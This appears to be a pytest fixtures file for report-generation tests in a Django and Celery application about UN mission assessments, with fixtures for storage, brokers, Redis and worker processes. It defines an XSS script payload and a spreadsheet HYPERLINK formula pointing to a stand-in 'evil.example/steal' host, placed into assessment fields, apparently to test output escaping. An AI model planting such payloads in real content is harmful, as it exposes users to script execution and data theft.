"""Fixtures for report tests: a private reports directory and an evaluated mission."""

from __future__ import annotations

import os
import signal
import subprocess
import sys

import pytest

from assessments.models import FunctionAssessment
from assessments.services import assessment_evaluate
from tests import factories
from tests.reports import faults as fault_injection
from tests.reports.processes import ROOT, PrivateRedis, Worker, database_url, free_port, wait_for

SCRIPT = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/steal","click me")'


@pytest.fixture(autouse=True)
def reports_root(settings, tmp_path):
    """Report files on the local disk go to a fresh directory per test."""
    settings.REPORTS_ROOT = tmp_path / "reports"
    return settings.REPORTS_ROOT


@pytest.fixture(autouse=True)
def faults(monkeypatch):
    """Faults injected into reports in this process (none unless a test sets them)."""
    monkeypatch.setattr(fault_injection, "FAULTS", fault_injection.Faults())
    return fault_injection.FAULTS


@pytest.fixture
def local_disk_storage(settings):
    """Report files on the local disk under the test's REPORTS_ROOT, as under `make run`."""
    settings.STORAGES = {
        **settings.STORAGES,
        "reports": {"BACKEND": "reports.storage.ReportFileSystemStorage"},
    }
    return settings.REPORTS_ROOT


@pytest.fixture
def monuc(db):
    return factories.MissionFactory(
        acronym="MONUC", name="UN Organization Mission in the DR Congo", country="DR Congo"
    )


@pytest.fixture
def monuc_assessment(monuc):
    """An evaluated MONUC assessment whose DDR desired impact holds a script and a formula."""
    assessment = factories.AssessmentFactory(
        mission=monuc, pooled_fund=False, agency_service_agreements=False
    )
    FunctionAssessment.objects.filter(assessment=assessment, function__code="ddr").update(
        desired_impact=f"{SCRIPT} Disarm and reintegrate ex-combatants."
    )
    FunctionAssessment.objects.filter(assessment=assessment, function__code="ssr").update(
        desired_impact=FORMULA
    )
    assessment_evaluate(assessment_id=assessment.pk)
    return assessment


@pytest.fixture
def broker(monkeypatch):
    """An in-process broker (kombu's memory transport) for tests about dispatching."""
    from integration.celery import app

    monkeypatch.setattr(app.conf, "broker_url", "memory://")
    return app


@pytest.fixture
def broker_down(monkeypatch):
    """A broker URL where nothing listens (connection refused at once)."""
    from integration.celery import app

    monkeypatch.setattr(app.conf, "broker_url", "redis://127.0.0.1:1/0")
    return app


@pytest.fixture
def redis_server():
    server = PrivateRedis(free_port())
    server.start()
    yield server
    if server.process is not None:
        server.stop()


@pytest.fixture
def worker_factory(settings, tmp_path, transactional_db):
    """worker_factory(broker_url, beat=False, **env) → a ready Worker; ended at teardown."""
    started: list[Worker] = []

    def start(broker_url: str, *, beat: bool = False, **extra: str) -> Worker:
        env = {
            **os.environ,
            "DJANGO_SETTINGS_MODULE": "integration.test_settings",
            "DATABASE_URL": database_url(),
            "CELERY_BROKER_URL": broker_url,
            # Nothing in the worker may reach another Redis than the test's own.
            "REDIS_URL": broker_url if broker_url.startswith("redis://") else "",
            "VAR_DIR": str(tmp_path / "var"),
            # Its own local report directory, unlike this (web) process's: files reach the web
            # side only through the shared report storage (the test database).
            "REPORTS_ROOT": str(tmp_path / "worker-reports"),
            **{name: str(value) for name, value in extra.items()},
        }
        log = tmp_path / f"worker-{len(started)}.log"
        command = [
            sys.executable,
            "-m",
            "celery",
            "-A",
            "integration",
            "worker",
            "--pool=prefork",
            "--concurrency=1",
            "--loglevel=INFO",
            "--without-gossip",
            "--without-mingle",
            f"--logfile={log}",
            "-n",
            f"reports-test-{os.getpid()}-{len(started)}@%h",
        ]
        if beat:  # as `make run` starts it: the sweeper runs on Celery beat's schedule
            command += ["--beat", f"--schedule={tmp_path / 'celerybeat-schedule'}"]
        process = subprocess.Popen(
            command,
            cwd=ROOT,
            env=env,
            start_new_session=True,  # its own process group, so teardown ends all of it
        )
        worker = Worker(process, log)
        started.append(worker)
        wait_for(
            lambda: " ready." in worker.log_text(),
            timeout=60,
            what=f"the worker to be ready (log: {log})",
        )
        return worker

    yield start
    for worker in started:
        if worker.process.poll() is None:
            os.killpg(worker.pid, signal.SIGTERM)
            try:
                worker.process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                os.killpg(worker.pid, signal.SIGKILL)
                worker.process.wait(timeout=5)
